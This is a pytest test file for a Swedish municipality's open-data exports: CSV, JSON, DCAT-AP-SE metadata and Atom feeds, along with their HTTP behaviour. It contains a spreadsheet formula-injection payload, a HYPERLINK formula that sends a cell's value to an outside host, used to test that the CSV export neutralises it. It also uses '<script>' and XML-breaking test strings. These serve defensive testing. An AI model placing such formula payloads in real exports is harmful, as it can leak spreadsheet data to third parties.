"""The open data as published: the "Öppna data" page, the JSON and CSV files (whole, per
plan, per period), the schema, DCAT-AP-SE and the Atom feeds, each read with its own reader
(json and jsonschema, csv, xml.etree, rdflib), for the seed and for a generated portal."""

import codecs
import csv
import datetime
import html
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.formats import date_format
from jsonschema import Draft202012Validator
from rdflib import BNode, Graph, Literal, Namespace, URIRef

import opendata
from assignments.models import Assessment, AssessmentStatus, Assignment, ResponsibleBody
from goals.models import Goal, Plan, ReportingPeriod
from opendata import catalogue
from opendata.tabular import COLUMNS
from tests import factories as f
from tests.factories import SEED_FILE
from tests.test_opendata import publish_correction

pytestmark = pytest.mark.django_db

PORTAL = "https://uppfoljning.exempelby.se"
CONTACT = "oppnadata@exempelby.se"
CC0 = "http://creativecommons.org/publicdomain/zero/1.0/"
ATOM = {"a": "http://www.w3.org/2005/Atom"}
EU = "http://publications.europa.eu/resource/authority/"
# Plain namespaces (rdflib's own DCAT and friends warn when pytest inspects the module).
RDF = Namespace("http://www.w3.org/1999/02/22-rdf-syntax-ns#")
DCAT = Namespace("http://www.w3.org/ns/dcat#")
DCTERMS = Namespace("http://purl.org/dc/terms/")
FOAF = Namespace("http://xmlns.com/foaf/0.1/")
VCARD = Namespace("http://www.w3.org/2006/vcard/ns#")
SCHEMA = Draft202012Validator(json.loads(opendata.SCHEMA_PATH.read_text(encoding="utf-8")))
NOT_FOUND_TEXT = "Sidan kunde inte hittas"

# Queries per address at any size (the page: the organisation, goals with their plans,
# periods, bodies, the import time; the JSON files: the export's ten).
QUERIES = {
    "index": 5,
    "document": 10,
    "plan_document": 10,
    "period_document": 10,
    "csv": 4,
    "plan_csv": 4,
    "period_csv": 5,
    "schema": 0,
    "dcat": 4,
    "feed": 2,
    "goal_feed": 3,
    "body_feed": 3,
}


@pytest.fixture(autouse=True)
def portal_settings(settings):
    settings.PORTAL_URL = PORTAL
    settings.ACCESSIBILITY_CONTACT_EMAIL = CONTACT


@pytest.fixture
def portal(db):
    """A generated portal of two plans, with drafts, unpublished goals and plans beside."""
    return f.build_portal(plans=2, goals=2, assignments=3, periods=3)


def file_urls(plan_code: str, period_code: str) -> dict[str, str]:
    """Every file of the open data by view name (the page not included)."""
    return {
        "document": reverse("opendata:document"),
        "plan_document": reverse("opendata:plan_document", kwargs={"plan": plan_code}),
        "period_document": reverse("opendata:period_document", kwargs={"period": period_code}),
        "csv": reverse("opendata:csv"),
        "plan_csv": reverse("opendata:plan_csv", kwargs={"plan": plan_code}),
        "period_csv": reverse("opendata:period_csv", kwargs={"period": period_code}),
        "schema": reverse("opendata:schema"),
        "dcat": reverse("opendata:dcat"),
        "feed": reverse("opendata:feed"),
    }


def all_urls() -> dict[str, str]:
    """The page and every file, feed and metadata of the portal's first public objects."""
    plan = Plan.objects.with_published_content().order_by("start_year").first()
    period = catalogue.published_periods().first()
    goal = Goal.objects.published().select_related("plan").order_by("pk").first()
    body = ResponsibleBody.objects.order_by("pk").first()
    return {
        "index": reverse("opendata:index"),
        **file_urls(plan.code, period.code),
        "goal_feed": reverse(
            "opendata:goal_feed", kwargs={"plan": goal.plan.code, "number": goal.number}
        ),
        "body_feed": reverse("opendata:body_feed", kwargs={"body": body.code}),
    }


def read_json(response) -> dict:
    """The document of a JSON file, checked against the schema and the format's rules."""
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    document = json.loads(response.content.decode("utf-8"))
    SCHEMA.validate(document)
    assert opendata.validate(document) == []
    return document


def read_csv(response) -> list[dict]:
    """The rows of a CSV file: UTF-8 without BOM, CRLF records, a header row of the keys."""
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert not response.content.startswith(codecs.BOM_UTF8)
    text = response.content.decode("utf-8")
    assert text.endswith("\r\n")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == [column.key for column in COLUMNS]
    return list(reader)


def read_feed(response) -> list[dict]:
    """The entries of an Atom feed, each as a dict of what a feed reader shows."""
    assert response.status_code == 200
    assert response["Content-Type"] == "application/atom+xml; charset=utf-8"
    root = ET.fromstring(response.content)
    assert root.tag == "{http://www.w3.org/2005/Atom}feed"
    assert root.find("a:title", ATOM).text
    assert root.find("a:author/a:name", ATOM).text
    return [
        {
            "id": entry.find("a:id", ATOM).text,
            "title": entry.find("a:title", ATOM).text,
            "link": entry.find("a:link[@rel='alternate']", ATOM).get("href"),
            "updated": datetime.datetime.fromisoformat(entry.find("a:updated", ATOM).text),
            "content": entry.find("a:content[@type='text']", ATOM).text,
        }
        for entry in root.findall("a:entry", ATOM)
    ]


def read_dcat(response) -> Graph:
    assert response.status_code == 200
    assert response["Content-Type"] == "application/rdf+xml; charset=utf-8"
    return Graph().parse(data=response.content, format="xml")


def page_text(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200
    return html.unescape(response.content.decode())


def seed_assignment() -> Assignment:
    return Assignment.objects.select_related("goal__plan").get(number=5)


# --------------------------------------------------------------------------- CSV


def test_it_serves_the_seed_as_csv_rows_with_what_the_goal_page_shows(client, seed):
    rows = read_csv(client.get(reverse("opendata:csv")))
    goal = Goal.objects.get(number=5)
    page = page_text(client, goal.get_absolute_url())

    assert [row["assignment_number"] for row in rows] == ["1", "2", "3", "4", "5"]
    for row in rows:
        assert row["assignment"] in page
        assert row["status_label"] in page
        assert row["text"].split("\n")[0] in page
    assert rows[4] | {"assignment": "", "text": ""} == {
        "plan": "Mål och budget 2022–2024",
        "goal_number": "5",
        "goal": "Uppsalas invånare ska ha bostad och arbete",
        "assignment_number": "5",
        "assignment": "",
        "bodies": "Kommunstyrelsen",
        "period": "Augusti 2022",
        "as_of": "2022-08-31",
        "status": "delayed",
        "status_label": "Inte helt enligt plan",
        "colour": "yellow",
        "text": "",
        "url": PORTAL + seed_assignment().get_absolute_url(),
    }
    assert rows[0]["bodies"].startswith("alla nämnder; alla bolag")


def test_it_writes_csv_by_rfc_4180_with_paragraphs_inside_quoted_cells(client, seed):
    assignment = seed_assignment()
    period = f.make_period(code="2022-12", name="December 2022", date=datetime.date(2022, 12, 31))
    f.make_assessment(assignment, period, text='Första stycket, med "citat".\n\nAndra stycket.')

    response = client.get(reverse("opendata:csv"))
    text = response.content.decode()

    assert '"Första stycket, med ""citat"".\n\nAndra stycket."' in text
    assert read_csv(response)[-1]["text"] == 'Första stycket, med "citat".\n\nAndra stycket.'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_it_keeps_spreadsheets_from_running_a_cell_as_a_formula(client, seed, start):
    text = f'{start}HYPERLINK("https://exempel.se/?x="&A1;"Klicka")'
    period = f.make_period(code="2022-12", name="December 2022", date=datetime.date(2022, 12, 31))
    f.make_assessment(seed_assignment(), period, text=text)

    row = read_csv(client.get(reverse("opendata:csv")))[-1]
    document = read_json(client.get(reverse("opendata:document")))

    assert row["text"] == "'" + text
    assessments = document["plans"][0]["goals"][0]["assignments"][4]["assessments"]
    assert assessments[-1]["text"] == text  # JSON needs no such guard: the text as it is


def test_it_writes_an_unassessed_assignment_as_one_row_without_period(client, seed):
    goal = Goal.objects.get(number=5)
    f.make_assignment(goal, title="Ett nytt uppdrag utan bedömning.")

    row = read_csv(client.get(reverse("opendata:csv")))[-1]

    assert row["assignment"] == "Ett nytt uppdrag utan bedömning."
    assert row["period"] == row["status"] == row["text"] == ""


# --------------------------------------------------------------------------- JSON


def test_the_whole_json_file_stays_where_it_was_and_holds_the_seed(client, seed):
    response = client.get("/oppna-data/uppfoljning.json")
    assert read_json(response) == json.loads(SEED_FILE.read_text(encoding="utf-8"))


def test_a_plans_files_hold_that_plan_alone(client, portal):
    plans = list(Plan.objects.with_published_content().order_by("start_year"))
    assert len(plans) == 2
    whole = read_json(client.get(reverse("opendata:document")))

    for plan in plans:
        document = read_json(
            client.get(reverse("opendata:plan_document", kwargs={"plan": plan.code}))
        )
        rows = read_csv(client.get(reverse("opendata:plan_csv", kwargs={"plan": plan.code})))

        assert [p["code"] for p in document["plans"]] == [plan.code]
        assert document["plans"][0] in whole["plans"]
        assert document["bodies"] == whole["bodies"]
        assert document["periods"] == whole["periods"]
        assert rows
        assert {row["plan"] for row in rows} == {plan.name}


def assignment_entry(document: dict, assignment: Assignment) -> dict:
    goal = assignment.goal
    plan = next(p for p in document["plans"] if p["code"] == goal.plan.code)
    found = next(g for g in plan["goals"] if g["number"] == goal.number)
    return next(a for a in found["assignments"] if a["number"] == assignment.number)


def test_a_periods_files_hold_the_follow_up_as_of_that_period(client, portal):
    assignment = Assignment.objects.select_related("goal__plan").get(pk=portal.assignment.pk)
    first, second = sorted(
        {a.period for a in Assessment.objects.published().filter(assignment=assignment)},
        key=lambda period: period.date,
    )
    later = ReportingPeriod.objects.filter(date__gt=second.date)
    assert later.exists()  # the latest period (its assessment of the assignment a draft)

    def files(period):
        kwargs = {"period": period.code}
        json_response = client.get(reverse("opendata:period_document", kwargs=kwargs))
        csv_response = client.get(reverse("opendata:period_csv", kwargs=kwargs))
        return read_json(json_response), read_csv(csv_response), json_response.content

    as_of_first, first_rows, first_bytes = files(first)
    as_of_second, second_rows, second_bytes = files(second)

    assert first_bytes != second_bytes
    assert assignment_entry(as_of_first, assignment)["assessments"] == [
        {
            "period": first.code,
            "status": "delayed",
            "text": "Arbetet är försenat eftersom förstudien tog längre tid än väntat.",
        }
    ]
    assert [a["status"] for a in assignment_entry(as_of_second, assignment)["assessments"]] == [
        "delayed",
        "on_track",
    ]
    # Later periods are not in a period's file, nor their assessments.
    assert max(p["date"] for p in as_of_first["periods"]) == first.date.isoformat()
    assert {r["as_of"] for r in first_rows} - {""} <= {p["date"] for p in as_of_first["periods"]}
    assert [r["status"] for r in first_rows if r["assignment"] == assignment.title] == ["delayed"]
    assert [r["status"] for r in second_rows if r["assignment"] == assignment.title] == [
        "delayed",
        "on_track",
    ]
    # Only the plans that had begun by the period's year.
    year = first.date.year
    assert all(plan["start_year"] <= year for plan in as_of_first["plans"])
    assert {r["plan"] for r in first_rows} == {
        p.name for p in Plan.objects.with_published_content() if p.start_year <= year
    }


def test_a_period_file_shows_a_correction_not_the_version_it_corrected(client, seed):
    assessment = Assessment.objects.get(assignment__number=5, state="published")
    publish_correction(assessment, text="Den rättade texten.", correction_reason="Fel år.")

    document = read_json(
        client.get(reverse("opendata:period_document", kwargs={"period": "2022-08"}))
    )
    entry = assignment_entry(document, seed_assignment())

    assert entry["assessments"][0]["text"] == "Den rättade texten."


def test_drafts_and_unpublished_content_never_appear_anywhere(client, portal):
    urls = {}
    for plan in Plan.objects.with_published_content():
        urls |= {
            f"{name} {plan.code}": url
            for name, url in file_urls(plan.code, plan.code).items()
            if name.startswith("plan")
        }
    for period in catalogue.published_periods():
        urls |= {
            f"{name} {period.code}": url
            for name, url in file_urls(period.code, period.code).items()
            if name.startswith("period")
        }
    urls |= all_urls()
    for body in ResponsibleBody.objects.all():
        urls[body.code] = reverse("opendata:body_feed", kwargs={"body": body.code})
    for goal in Goal.objects.published().select_related("plan"):
        urls[str(goal)] = reverse(
            "opendata:goal_feed", kwargs={"plan": goal.plan.code, "number": goal.number}
        )

    for name, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, name
        content = response.content.decode()
        for hidden in portal.hidden_texts:
            assert hidden not in content, (name, hidden)


def test_a_plan_or_period_that_is_not_public_has_no_files(client, portal):
    hidden_plan = Plan.objects.get(is_published=False)
    empty = f.make_period(code="tom-period", date=datetime.date(2040, 1, 31))
    for name in ("plan_document", "plan_csv"):
        response = client.get(reverse(f"opendata:{name}", kwargs={"plan": hidden_plan.code}))
        assert response.status_code == 404
    for name in ("period_document", "period_csv"):
        response = client.get(reverse(f"opendata:{name}", kwargs={"period": empty.code}))
        assert response.status_code == 404


# --------------------------------------------------------------------------- Atom


def test_the_goal_feed_lists_each_published_assessment_as_the_page_shows_it(client, seed):
    goal = Goal.objects.select_related("plan").get(number=5)
    url = reverse("opendata:goal_feed", kwargs={"plan": "mob-2022", "number": 5})
    entries = read_feed(client.get(url))
    page = page_text(client, goal.get_absolute_url())

    assessment = Assessment.objects.get(assignment__number=5, state="published")
    entry = next(e for e in entries if e["title"].startswith("Uppdrag 5:"))
    assert len(entries) == 5
    assert entry == {
        "id": f"{PORTAL}/oppna-data/bedomning/{assessment.pk}/",
        "title": "Uppdrag 5: Inte helt enligt plan (per augusti 2022)",
        "link": PORTAL + seed_assignment().get_absolute_url() + "#bedomning-2022-08-31",
        "updated": assessment.published_at,
        "content": assessment.text,
    }
    for entry in entries:
        assert entry["content"].split("\n")[0] in page


def test_the_portal_and_body_feeds_name_the_goal_and_hold_what_the_body_answers_for(client, seed):
    entries = read_feed(client.get(reverse("opendata:feed")))
    body = ResponsibleBody.objects.get(code="KS")
    ks_entries = read_feed(client.get(reverse("opendata:body_feed", kwargs={"body": "KS"})))
    ks_assignments = Assignment.objects.for_body(body).public()

    assert "Mål 5, uppdrag 5: Inte helt enligt plan (per augusti 2022)" in [
        e["title"] for e in entries
    ]
    assert len(ks_entries) == ks_assignments.count() < len(entries)
    assert {e["link"].split("#")[0] for e in ks_entries} == {
        PORTAL + a.get_absolute_url() for a in ks_assignments
    }


def test_a_correction_says_so_in_the_feed_and_the_corrected_version_leaves_it(client, seed):
    assessment = Assessment.objects.get(assignment__number=5, state="published")
    correction = publish_correction(
        assessment, text="Arbetet har påbörjats.", correction_reason="Fel i lägesbeskrivningen."
    )

    entries = read_feed(client.get(reverse("opendata:feed")))

    assert entries[0]["id"] == f"{PORTAL}/oppna-data/bedomning/{correction.pk}/"
    assert entries[0]["title"].endswith("(rättad)")
    assert entries[0]["content"] == "Rättad: Fel i lägesbeskrivningen.\n\nArbetet har påbörjats."
    assert f"/bedomning/{assessment.pk}/" not in " ".join(e["id"] for e in entries)


def test_a_feed_names_the_body_of_a_part_and_survives_control_characters(client, seed):
    body = ResponsibleBody.objects.get(code="KS")
    period = f.make_period(code="2022-12", name="December 2022", date=datetime.date(2022, 12, 31))
    f.make_assessment(seed_assignment(), period, body=body, text="Rad ett\x0bRad två <b>&amp;</b>")

    entry = read_feed(client.get(reverse("opendata:feed")))[0]

    assert entry["title"] == ("Mål 5, uppdrag 5: Enligt plan (per december 2022) – Kommunstyrelsen")
    assert entry["content"] == "Rad ettRad två <b>&amp;</b>"


# --------------------------------------------------------------------------- DCAT-AP-SE


def test_dcat_has_every_mandatory_property_of_catalog_datasets_and_distributions(client, portal):
    graph = read_dcat(client.get(reverse("opendata:dcat")))
    plans = list(Plan.objects.with_published_content())

    (catalog,) = graph.subjects(RDF.type, DCAT.Catalog)
    publisher = graph.value(catalog, DCTERMS.publisher)
    datasets = list(graph.objects(catalog, DCAT.dataset))
    assert graph.value(catalog, DCTERMS.title) == Literal(
        "Uppföljning – Exempelby kommun", lang="sv"
    )
    assert graph.value(catalog, DCTERMS.description).language == "sv"
    assert graph.value(catalog, DCTERMS.license) == URIRef(CC0)
    assert graph.value(catalog, DCTERMS.language) == URIRef(EU + "language/SWE")
    assert graph.value(catalog, FOAF.homepage) == URIRef(PORTAL + "/oppna-data/")
    assert graph.value(catalog, DCTERMS.modified) is not None
    assert len(datasets) == 1 + len(plans)

    assert (publisher, RDF.type, FOAF.Organization) in graph
    assert graph.value(publisher, FOAF.name) == Literal("Exempelby kommun", lang="sv")
    assert graph.value(publisher, DCTERMS.type) == URIRef(
        "http://purl.org/adms/publishertype/LocalAuthority"
    )

    distributions = []
    for dataset in datasets:
        assert (dataset, RDF.type, DCAT.Dataset) in graph
        assert graph.value(dataset, DCTERMS.title).language == "sv"
        assert graph.value(dataset, DCTERMS.description).language == "sv"
        assert graph.value(dataset, DCTERMS.publisher) == publisher
        assert graph.value(dataset, DCAT.theme) == URIRef(EU + "data-theme/GOVE")
        assert graph.value(dataset, DCTERMS.accessRights) == URIRef(EU + "access-right/PUBLIC")
        contact = graph.value(dataset, DCAT.contactPoint)
        assert graph.value(contact, VCARD.fn) == Literal("Exempelby kommun")
        assert graph.value(contact, VCARD.hasEmail) == URIRef(f"mailto:{CONTACT}")
        distributions += list(graph.objects(dataset, DCAT.distribution))
    assert {str(graph.value(d, DCTERMS.title)) for d in datasets} >= {
        f"Uppföljning av {plan.name} – Exempelby kommun" for plan in plans
    }

    assert len(distributions) == 2 * len(datasets)
    for distribution in distributions:
        assert (distribution, RDF.type, DCAT.Distribution) in graph
        access = graph.value(distribution, DCAT.accessURL)
        assert access == graph.value(distribution, DCAT.downloadURL)
        assert graph.value(distribution, DCTERMS.license) == URIRef(CC0)
        file_type = str(graph.value(distribution, DCTERMS["format"])).rsplit("/", 1)[-1]
        media_type = str(graph.value(distribution, DCAT.mediaType))
        assert (file_type, media_type.split("media-types/")[1]) in {
            ("JSON", "application/json"),
            ("CSV", "text/csv"),
        }
        assert str(access).startswith(PORTAL + "/oppna-data/")
        response = client.get(str(access).removeprefix(PORTAL))
        assert response.status_code == 200
        assert response["Content-Type"].startswith(media_type.split("media-types/")[1])
        if file_type == "JSON":
            schema = graph.value(distribution, DCTERMS.conformsTo)
            assert schema == URIRef(PORTAL + reverse("opendata:schema"))

    named = [catalog, publisher, *datasets, *distributions, contact]
    assert not any(isinstance(node, BNode) for node in named)


def test_dcat_escapes_every_text_and_follows_the_licence_setting(client, seed, settings):
    settings.OPEN_DATA_LICENCE = {
        "name": "CC BY 4.0",
        "url": "http://creativecommons.org/licenses/by/4.0/",
    }
    settings.ACCESSIBILITY_CONTACT_EMAIL = ""
    name = 'Plan <2030> & "Mål" </rdf:RDF>'
    f.make_goal(f.make_plan(code="x&y", name=name, start_year=2030, end_year=2032))

    graph = read_dcat(client.get(reverse("opendata:dcat")))
    page = page_text(client, reverse("opendata:index"))

    titles = {str(t) for t in graph.objects(None, DCTERMS.title)}
    assert f"Uppföljning av {name} – Uppsala kommun" in titles
    licence = URIRef("http://creativecommons.org/licenses/by/4.0/")
    assert set(graph.objects(None, DCTERMS.license)) == {licence}
    assert not list(graph.objects(None, DCAT.contactPoint))  # no address to give
    assert '<a href="http://creativecommons.org/licenses/by/4.0/">CC BY 4.0</a>' in page


# --------------------------------------------------------------------------- the page


def test_the_page_shows_the_licence_files_schema_columns_and_last_change(client, seed):
    response = client.get(reverse("opendata:index"))
    page = html.unescape(response.content.decode())
    newest = max(Assessment.objects.values_list("published_at", flat=True))

    assert "<h1>Öppna data</h1>" in page
    assert f'<a href="{CC0}">CC0 1.0 Universell</a>' in page
    with translation.override("sv"):
        assert date_format(timezone.localtime(newest), "j F Y") in page
        for column in COLUMNS:
            assert f'<code>{column.key}</code> <span class="muted">({column.label})</span>' in page
            assert str(column.description) in page
    for url in file_urls("mob-2022", "2022-08").values():
        assert f'href="{url}"' in page
    goal_feed = reverse("opendata:goal_feed", kwargs={"plan": "mob-2022", "number": 5})
    assert f'href="{goal_feed}"' in page
    assert f'href="{reverse("opendata:body_feed", kwargs={"body": "KS"})}"' in page


def test_the_schema_is_served_as_it_is(client, db):
    response = client.get(reverse("opendata:schema"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/schema+json"
    assert json.loads(response.content) == json.loads(opendata.SCHEMA_PATH.read_text())


def test_an_assessments_permanent_address_leads_to_its_assignment_page(client, seed):
    assessment = Assessment.objects.get(assignment__number=5, state="published")
    url = reverse("opendata:assessment", kwargs={"pk": assessment.pk})
    expected = seed_assignment().get_absolute_url() + "#bedomning-2022-08-31"

    assert client.get(url)["Location"] == expected
    publish_correction(assessment, text="Rättad.")
    assert client.get(url)["Location"] == expected  # the corrected version is still shown

    draft = f.make_assessment(
        seed_assignment(), f.make_period(), text="Utkast.", is_published=False
    )
    response = client.get(reverse("opendata:assessment", kwargs={"pk": draft.pk}))
    assert response.status_code == 404


# --------------------------------------------------------------------------- HTTP


def test_every_file_has_an_etag_and_answers_304_while_unchanged(client, seed):
    for name, url in all_urls().items():
        response = client.get(url)
        etag = response["ETag"]
        assert etag.startswith('"') and not etag.startswith("W/"), name  # strong

        again = client.get(url, HTTP_IF_NONE_MATCH=etag)

        assert again.status_code == 304, name
        assert again.content == b""


def test_a_new_publication_changes_the_etag(client, seed):
    url = reverse("opendata:period_document", kwargs={"period": "2022-08"})
    before = client.get(url)["ETag"]
    assessment = Assessment.objects.get(assignment__number=5, state="published")
    publish_correction(assessment, text="Ny text.")
    assert client.get(url, HTTP_IF_NONE_MATCH=before).status_code == 200


def test_files_are_open_to_scripts_on_other_sites_and_set_no_cookie(client, seed):
    for name, url in all_urls().items():
        response = client.get(url, HTTP_ORIGIN="https://example.org")
        head = client.head(url)
        preflight = client.options(
            url, HTTP_ORIGIN="https://example.org", HTTP_ACCESS_CONTROL_REQUEST_METHOD="GET"
        )
        post = client.post(url)
        options = client.options(url)  # not a preflight: as on every public page

        for answer in (response, head, preflight, post, options):
            assert answer.cookies == {}, name
            assert "Set-Cookie" not in answer.headers, name
        assert head.status_code == 200
        assert head.content == b""
        assert post.status_code == options.status_code == 405
        assert post["Allow"] == options["Allow"] == "GET, HEAD"
        if name == "index":
            assert "Access-Control-Allow-Origin" not in response
            continue
        assert response["Access-Control-Allow-Origin"] == "*", name
        assert head["Access-Control-Allow-Origin"] == "*", name
        assert preflight.status_code == 204, name
        assert preflight["Access-Control-Allow-Origin"] == "*"
        assert preflight["Access-Control-Allow-Methods"] == "GET, HEAD"
        assert "If-None-Match" in preflight["Access-Control-Allow-Headers"]


def test_junk_query_strings_change_nothing(client, seed):
    for name, url in all_urls().items():
        if name == "index":
            continue
        plain = client.get(url)
        junk = client.get(url + "?utm_source=x&plan=finns-inte&period=%00&x=<script>")
        assert junk.status_code == 200, name
        assert junk["ETag"] == plain["ETag"], name


@pytest.mark.parametrize(
    "url",
    [
        "/oppna-data/plan/finns-inte/uppfoljning.json",
        "/oppna-data/plan/finns-inte/uppfoljning.csv",
        "/oppna-data/period/1999-01/uppfoljning.json",
        "/oppna-data/period/1999-01/uppfoljning.csv",
        "/oppna-data/plan/%00/uppfoljning.csv",
        "/oppna-data/period/%00/uppfoljning.csv",
        "/oppna-data/plan/" + "x" * 500 + "/uppfoljning.csv",
        "/oppna-data/plan/mob-2022/mal/99/flode.atom",
        "/oppna-data/plan/mob-2022/mal/99999999999999999999/flode.atom",
        "/oppna-data/plan/%00/mal/5/flode.atom",
        "/oppna-data/ansvariga/FINNS-INTE/flode.atom",
        "/oppna-data/ansvariga/%00/flode.atom",
        "/oppna-data/bedomning/999999/",
        "/oppna-data/bedomning/99999999999999999999999/",
        "/oppna-data/uppfoljning.xml",
    ],
)
def test_an_unknown_plan_period_goal_or_body_is_a_swedish_404(client, seed, url):
    response = client.get(url)
    assert response.status_code == 404
    assert NOT_FOUND_TEXT in response.content.decode()


def test_without_an_organisation_the_files_are_not_found_not_broken(client, db):
    assert client.get(reverse("opendata:document")).status_code == 404
    assert client.get(reverse("opendata:dcat")).status_code == 404
    assert read_csv(client.get(reverse("opendata:csv"))) == []
    assert read_feed(client.get(reverse("opendata:feed"))) == []
    assert "Inget har publicerats ännu." in page_text(client, reverse("opendata:index"))


@pytest.mark.parametrize("size", ["seed", "large"])
def test_it_runs_a_fixed_number_of_queries_at_any_size(client, db, size, django_assert_num_queries):
    if size == "seed":
        call_command("import_plan", str(SEED_FILE), verbosity=0)
    else:
        f.build_portal(plans=2, goals=4, assignments=8, periods=4)
        assert Assessment.objects.count() > 100
    for name, url in all_urls().items():
        with django_assert_num_queries(QUERIES[name]):
            response = client.get(url)
        assert response.status_code == 200, name
        assert QUERIES[name] <= 10


def test_it_reads_a_generated_plan_as_its_pages_show_it(client, portal):
    goal = Goal.objects.select_related("plan").get(pk=portal.goal.pk)
    page = page_text(client, goal.get_absolute_url())
    rows = [
        row
        for row in read_csv(client.get(reverse("opendata:csv")))
        if row["plan"] == goal.plan.name and row["goal_number"] == str(goal.number)
    ]
    entries = read_feed(
        client.get(
            reverse("opendata:goal_feed", kwargs={"plan": goal.plan.code, "number": goal.number})
        )
    )

    assert {row["assignment"] for row in rows} == set(
        goal.assignments.values_list("title", flat=True)
    )
    latest = {}
    for row in rows:  # oldest period first: the last row of each assignment is current
        latest[row["assignment"]] = row
    for title, row in latest.items():
        assert title in page
        if row["status"]:
            assert str(AssessmentStatus(row["status"]).label) in page or row["status_label"] in page
    assert entries
    assert all(entry["link"].startswith(PORTAL + goal.get_absolute_url()) for entry in entries)


def test_the_page_cache_keeps_the_cors_header_and_the_etag(client, seed, page_cache):
    url = reverse("opendata:plan_csv", kwargs={"plan": "mob-2022"})
    first = client.get(url)
    cached = client.get(url)

    assert cached["X-Page-Cache"] == "hit"
    assert cached.content == first.content
    assert cached["Access-Control-Allow-Origin"] == "*"
    assert client.get(url, HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304


@pytest.mark.django_db
def test_it_sends_an_assessments_permanent_address_to_its_place_on_the_assignment_page(
    client, seed
):
    from assignments.models import Assessment

    portal = f.seed_portal()
    assessment = Assessment.objects.published().filter(assignment__goal=portal.goal).first()
    response = client.get(f"/oppna-data/bedomning/{assessment.pk}/")
    assert response.status_code in (301, 302)
    page, anchor = response["Location"].split("#")
    assert anchor == f"bedomning-{assessment.period.date.isoformat()}"
    assert f'id="{anchor}"' in client.get(page).content.decode()
